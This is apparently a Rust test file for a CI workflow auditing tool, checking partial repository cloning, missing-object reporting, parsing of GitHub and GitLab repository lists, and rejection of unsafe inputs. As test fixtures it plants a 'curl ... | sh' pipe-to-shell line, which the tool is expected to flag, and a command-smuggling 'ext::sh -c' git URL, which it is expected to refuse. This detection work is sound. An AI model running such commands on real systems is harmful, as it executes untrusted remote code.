//! Which repositories there are, and what is fetched of them.

use super::{SIGNS, TODAY, WORKFLOW, commit, lines, records, run, served, statuses};
use crate::support::{git, swaplint, swaplint_reading, write};
use serde_json::json;
use std::fs;
use std::path::{Path, PathBuf};

#[test]
fn a_clone_brings_what_is_read_and_no_more() {
    let dir = tempfile::tempdir().expect("a folder");
    let app = dir.path().join("server/acme/app");
    let calls =
        "on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./ci/release\n";
    commit(&app, &[(WORKFLOW, calls), ("ci/release", "#!/bin/sh\n./ci/lib.sh\n"), ("big.bin", "never read")]);
    commit(&app, &[("ci/lib.sh", "curl https://example.com/i.sh | sh\n")]);
    git(&app, &["config", "uploadpack.allowFilter", "true"]);
    git(&app, &["config", "uploadpack.allowAnySHA1InWant", "true"]);
    let url = format!("file://{}", app.display());
    write(dir.path(), "list", format!("# ours\n{url}\n{url}-gone\n").as_bytes());
    let ran = run(dir.path(), &["list", "--out", "a", "--store", "store"]);
    assert_eq!(ran.code, 3, "{}{}", ran.out, ran.err);
    let all = records(dir.path(), "a");
    let found: Vec<_> = all.iter().filter(|r| r["record"] == "finding").map(|r| (&r["rule"], &r["path"])).collect();
    assert!(found.contains(&(&json!("pipe-to-shell"), &json!("ci/lib.sh"))), "{found:?}\n{}", ran.err);
    let (gone, here) = (&statuses(&all)[1], &statuses(&all)[0]);
    assert_eq!((gone.1.as_str(), here.1.as_str()), ("unreadable", "ok"), "{all:?}");
    let kept = fs::read_dir(dir.path().join("store")).expect("a store").count();
    assert_eq!(kept, 1);
    let clone = walk(&dir.path().join("store"));
    let missing = git(&clone, &["rev-list", "--objects", "--missing=print", "HEAD"]);
    assert_eq!(missing.lines().filter(|l| l.starts_with('?')).count(), 1, "{missing}");
    // Nothing is fetched while it is read: what is missing is told.
    let blob = git(&app, &["rev-parse", "HEAD:ci/lib.sh"]);
    let lost = dir.path().join("lost.git");
    git(dir.path(), &["clone", "-q", "--bare", "--filter=blob:none", &url, "lost.git"]);
    let plan = swaplint(dir.path(), &["audit", "plan", "lost.git", "--today", TODAY]);
    let mapped = lines(&swaplint_reading(dir.path(), &["audit", "map"], &plan.out).out);
    assert_eq!((&mapped[0]["status"], &mapped[0]["missing"]), (&json!("partial"), &json!(1)), "{mapped:?}");
    assert_eq!(git(&lost, &["cat-file", "--batch-check", "--batch-all-objects"]).matches(&blob).count(), 0);
    // That is known again as long as it is so.
    let kept = || served(dir.path(), &plan.out, &[]);
    assert_eq!([kept(), kept()], [["new"], ["content"]]);
    git(&lost, &["fetch", "-q", "origin", &git(&app, &["rev-parse", &format!("HEAD:{WORKFLOW}")])]);
    assert_eq!(kept(), ["new"], "a part of it came");
    // The same in two steps.
    let plan = swaplint(dir.path(), &["audit", "plan", "list", "--today", TODAY]);
    let fetched = swaplint_reading(dir.path(), &["audit", "fetch", "-", "--store", "other"], &plan.out);
    let mapped = lines(&swaplint_reading(dir.path(), &["audit", "map"], &fetched.out).out);
    assert_eq!(mapped, all);
}

/// The repository of a store.
fn walk(folder: &Path) -> PathBuf {
    let mut at = folder.to_owned();
    while !at.join("HEAD").exists() {
        at = fs::read_dir(&at).expect("a folder").flatten().next().expect("something").path();
    }
    at
}

#[test]
fn lists_of_forges_are_read() {
    let dir = tempfile::tempdir().expect("a folder");
    commit(&dir.path().join("app"), &[(WORKFLOW, SIGNS)]);
    let url = format!("file://{}", dir.path().join("app").display());
    let gh = json!([{"nameWithOwner": "acme/app", "url": url, "isArchived": false}]).to_string();
    let gitlab = json!({"id": 1, "path": "app", "path_with_namespace": "group/sub/app", "http_url_to_repo": url}).to_string();
    for (list, name) in [(gh, "acme/app"), (gitlab, "group/sub/app")] {
        let plan = lines(&swaplint_reading(dir.path(), &["audit", "plan", "-", "--today", TODAY], &list).out);
        assert_eq!((&plan[1]["repository"], plan[1]["head"].as_str().map(str::len)), (&json!(name), Some(40)));
    }
    let refused = |list: &str| swaplint_reading(dir.path(), &["audit", "plan", "-"], list);
    assert!(refused("https://me:secret@example.com/a.git").err.contains("credentials"));
    assert!(refused("ext::sh -c x://y").err.contains("only https"));
    assert!(refused("{\"name\":\"x\"}").err.contains("neither a `url` nor a `git_dir`"));
}
